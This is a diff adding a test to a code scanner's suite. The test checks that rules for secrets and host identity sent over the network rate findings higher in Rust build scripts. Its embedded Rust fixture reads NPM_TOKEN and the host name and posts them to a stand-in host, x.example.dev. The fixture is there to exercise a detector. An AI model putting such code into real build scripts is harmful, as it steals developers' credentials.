@@ -169,3 +169,28 @@ def test_no_exception_on_real_crates():
     for path in files:
         source = path.read_bytes()[:200_000]
         RustFlow(source, parser("rust").parse(source)).facts()
+
+
+def test_build_scripts_grade_secrets_and_beacons_higher():
+    from codescan.analyze.document import Analyzer
+    from codescan.config import Config
+    from codescan.records import Document
+    from codescan.rules import load_rules
+
+    rules = load_rules()
+    code = b"""
+fn main() {
+    let t = std::env::var("NPM_TOKEN").unwrap();
+    let h = hostname::get().unwrap();
+    let c = reqwest::blocking::Client::new();
+    c.post("https://x.example.dev/a").body(t).send();
+    c.post("https://x.example.dev/b").body(format!("{:?}", h)).send();
+}
+"""
+    ids = ("secret-env-var-sent-over-network", "host-identity-sent-over-network")
+    analyzer = Analyzer(rules.select(ids, ()), Config(honour_suppressions=False))
+
+    def graded(path):
+        return {(f.rule_id, f.severity) for f in analyzer.analyze(Document(path=path, content=code)).findings}
+    assert graded("tools/build.rs") == {(ids[0], "critical"), (ids[1], "high")}
+    assert graded("src/lib.rs") == {(ids[0], "high"), (ids[1], "medium")}
